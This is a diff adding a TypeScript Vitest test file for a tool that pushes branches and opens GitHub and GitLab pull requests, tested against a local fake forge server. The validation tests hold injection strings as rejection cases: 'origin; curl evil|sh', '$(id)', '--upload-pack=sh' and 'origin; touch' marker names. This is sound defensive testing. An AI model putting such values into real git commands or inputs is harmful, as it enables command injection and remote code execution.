@@ -0,0 +1,259 @@
+import { execSync } from 'node:child_process'
+import fs from 'node:fs'
+import http from 'node:http'
+import os from 'node:os'
+import path from 'node:path'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { GitHubForge, GitLabForge, parseRemoteUrl, validateForgeApiUrl } from './forge.js'
+import {
+  draftPullRequest,
+  getBranchCommits,
+  getDefaultBranch,
+  getRemoteRepository,
+  openPullRequest,
+  validateGitName,
+} from './pull-request.js'
+
+type ReceivedRequest = {
+  method?: string
+  url?: string
+  headers: http.IncomingHttpHeaders
+  body: Record<string, unknown>
+}
+
+let tmpDir: string
+let bareDir: string
+let workDir: string
+let forgeServer: http.Server
+let forgeUrl: string
+const received: ReceivedRequest[] = []
+
+function git(cwd: string, args: string): string {
+  return execSync(
+    `git -c user.name=test -c user.email=test@example.com -c init.defaultBranch=main ${args}`,
+    { cwd, stdio: 'pipe' },
+  )
+    .toString()
+    .trim()
+}
+
+beforeAll(async () => {
+  tmpDir = fs.mkdtempSync(path.join(os.tmpdir(), 'disunday-pr-test-'))
+  bareDir = path.join(tmpDir, 'remote.git')
+  workDir = path.join(tmpDir, 'work')
+
+  git(tmpDir, `init --bare "${bareDir}"`)
+  git(tmpDir, `clone "${bareDir}" "${workDir}"`)
+  fs.writeFileSync(path.join(workDir, 'README.md'), 'hello\n')
+  git(workDir, 'add README.md')
+  git(workDir, 'commit -m "Initial commit"')
+  git(workDir, 'push origin HEAD:main')
+  git(workDir, 'remote set-head origin main')
+
+  git(workDir, 'checkout -b fix-typo')
+  fs.writeFileSync(path.join(workDir, 'README.md'), 'hello world\n')
+  git(workDir, 'commit -am "Fix greeting"')
+
+  // Fake forge: accepts GitHub and GitLab create requests and echoes a URL
+  forgeServer = http.createServer((req, res) => {
+    const chunks: Buffer[] = []
+    req.on('data', (chunk: Buffer) => chunks.push(chunk))
+    req.on('end', () => {
+      const body = JSON.parse(Buffer.concat(chunks).toString() || '{}')
+      received.push({ method: req.method, url: req.url, headers: req.headers, body })
+      if (body.title === 'fail') {
+        res.writeHead(422, { 'Content-Type': 'application/json' })
+        res.end(JSON.stringify({ message: 'Validation Failed' }))
+        return
+      }
+      res.writeHead(201, { 'Content-Type': 'application/json' })
+      res.end(
+        JSON.stringify({
+          number: 7,
+          html_url: 'https://forge.test/acme/app/pull/7',
+          iid: 3,
+          web_url: 'https://forge.test/acme/app/-/merge_requests/3',
+        }),
+      )
+    })
+  })
+  await new Promise<void>((resolve) => forgeServer.listen(0, '127.0.0.1', resolve))
+  const address = forgeServer.address()
+  if (!address || typeof address === 'string') {
+    throw new Error('fake forge did not bind to a port')
+  }
+  forgeUrl = `http://127.0.0.1:${address.port}`
+})
+
+afterAll(async () => {
+  await new Promise((resolve) => forgeServer.close(resolve))
+  fs.rmSync(tmpDir, { recursive: true, force: true })
+})
+
+describe('parseRemoteUrl', () => {
+  test('parses ssh, scp-style and https remotes', () => {
+    expect(parseRemoteUrl('git@github.com:acme/app.git')).toEqual({
+      host: 'github.com',
+      path: 'acme/app',
+    })
+    expect(parseRemoteUrl('https://gitlab.com/group/sub/app')).toEqual({
+      host: 'gitlab.com',
+      path: 'group/sub/app',
+    })
+    expect(parseRemoteUrl('ssh://git@git.example.com:2222/acme/app.git')).toEqual({
+      host: 'git.example.com',
+      path: 'acme/app',
+    })
+    expect(parseRemoteUrl('/srv/git/app.git')).toBeNull()
+  })
+})
+
+describe('validateGitName', () => {
+  test('accepts plain remote and branch names', () => {
+    expect(validateGitName({ kind: 'remote', name: 'origin' })).toBe('origin')
+    expect(validateGitName({ kind: 'branch', name: 'release/1.2_x' })).toBe('release/1.2_x')
+  })
+
+  test('rejects shell syntax and option-like names', () => {
+    for (const name of ['origin; curl evil|sh', '$(id)', '--upload-pack=sh', 'a..b', 'main.lock', 'feat/', '']) {
+      expect(validateGitName({ kind: 'branch', name })).toBeInstanceOf(Error)
+    }
+  })
+})
+
+describe('validateForgeApiUrl', () => {
+  const repository = { host: 'github.com', path: 'acme/app' }
+
+  test('accepts https URLs on the remote host or a subdomain', () => {
+    expect(validateForgeApiUrl({ apiUrl: 'https://api.github.com', repository })).toBe('https://api.github.com')
+    expect(
+      validateForgeApiUrl({
+        apiUrl: 'https://git.example.com/api/v3',
+        repository: { host: 'git.example.com', path: 'acme/app' },
+      }),
+    ).toBe('https://git.example.com/api/v3')
+  })
+
+  test('rejects http, other hosts and lookalike hosts', () => {
+    expect(validateForgeApiUrl({ apiUrl: 'http://api.github.com', repository })).toBeInstanceOf(Error)
+    expect(validateForgeApiUrl({ apiUrl: 'https://evil.test', repository })).toBeInstanceOf(Error)
+    expect(validateForgeApiUrl({ apiUrl: 'https://evilgithub.com', repository })).toBeInstanceOf(Error)
+    expect(validateForgeApiUrl({ apiUrl: 'not a url' })).toBeInstanceOf(Error)
+  })
+})
+
+describe('openPullRequest', () => {
+  test('pushes the branch to the remote and opens a GitHub pull request', async () => {
+    expect(await getDefaultBranch({ directory: workDir, remote: 'origin' })).toBe('main')
+    const commits = await getBranchCommits({ directory: workDir, base: 'origin/main' })
+    expect(commits).toEqual(['Fix greeting'])
+
+    const draft = draftPullRequest({
+      sessionTitle: 'Fix the greeting',
+      summary: '### 🤖 Assistant (test-model)\n\nUpdated the README greeting.\n\n*Completed in 2.0s*\n',
+      commits,
+      branch: 'fix-typo',
+      threadUrl: 'https://discord.com/channels/1/2',
+    })
+
+    const result = await openPullRequest({
+      directory: workDir,
+      remote: 'origin',
+      branch: 'fix-typo',
+      base: 'main',
+      title: draft.title,
+      body: draft.body,
+      forge: new GitHubForge('secret', forgeUrl),
+      repository: { host: 'github.com', path: 'acme/app' },
+    })
+
+    expect(result).toEqual({
+      number: 7,
+      url: 'https://forge.test/acme/app/pull/7',
+      branch: 'fix-typo',
+    })
+    expect(git(bareDir, 'rev-parse fix-typo')).toBe(git(workDir, 'rev-parse HEAD'))
+
+    const request = received.at(-1)
+    expect(request?.url).toBe('/repos/acme/app/pulls')
+    expect(request?.headers.authorization).toBe('Bearer secret')
+    expect(request?.body).toMatchObject({
+      title: 'Fix the greeting',
+      head: 'fix-typo',
+      base: 'main',
+      draft: false,
+    })
+    expect(request?.body.body).toMatchInlineSnapshot(`
+      "## Summary
+
+      Updated the README greeting.
+
+      ## Commits
+
+      - Fix greeting
+
+      ---
+      Opened from Disunday thread: https://discord.com/channels/1/2"
+    `)
+  })
+
+  test('opens GitLab merge requests and surfaces forge errors', async () => {
+    const gitlab = await openPullRequest({
+      directory: workDir,
+      remote: 'origin',
+      branch: 'fix-typo',
+      base: 'main',
+      title: 'Fix greeting',
+      body: 'body',
+      draft: true,
+      forge: new GitLabForge('secret', `${forgeUrl}/api/v4`),
+      repository: { host: 'gitlab.com', path: 'acme/app' },
+    })
+    expect(gitlab).toMatchObject({ number: 3 })
+    expect(received.at(-1)?.url).toBe('/api/v4/projects/acme%2Fapp/merge_requests')
+    expect(received.at(-1)?.headers['private-token']).toBe('secret')
+    expect(received.at(-1)?.body.title).toBe('Draft: Fix greeting')
+
+    const failed = await openPullRequest({
+      directory: workDir,
+      remote: 'origin',
+      branch: 'fix-typo',
+      base: 'main',
+      title: 'fail',
+      body: '',
+      forge: new GitHubForge('secret', forgeUrl),
+      repository: { host: 'github.com', path: 'acme/app' },
+    })
+    expect(failed).toBeInstanceOf(Error)
+    expect((failed as Error).message).toContain('422')
+
+    const missingRemote = await openPullRequest({
+      directory: workDir,
+      remote: 'nope',
+      branch: 'fix-typo',
+      base: 'main',
+      title: 'Fix greeting',
+      body: '',
+      forge: new GitHubForge('secret', forgeUrl),
+      repository: { host: 'github.com', path: 'acme/app' },
+    })
+    expect(missingRemote).toBeInstanceOf(Error)
+  })
+  test('refuses remote and branch names that would run shell commands', async () => {
+    const marker = path.join(tmpDir, 'pwned')
+    const injected = await openPullRequest({
+      directory: workDir,
+      remote: `origin; touch ${marker}`,
+      branch: 'fix-typo',
+      base: 'main',
+      title: 'Fix greeting',
+      body: '',
+      forge: new GitHubForge('secret', forgeUrl),
+      repository: { host: 'github.com', path: 'acme/app' },
+    })
+    expect(injected).toBeInstanceOf(Error)
+    expect(await getRemoteRepository({ directory: workDir, remote: `origin; touch ${marker}` })).toBeInstanceOf(Error)
+    expect(await getBranchCommits({ directory: workDir, base: `main; touch ${marker}` })).toEqual([])
+    expect(fs.existsSync(marker)).toBe(false)
+  })
+})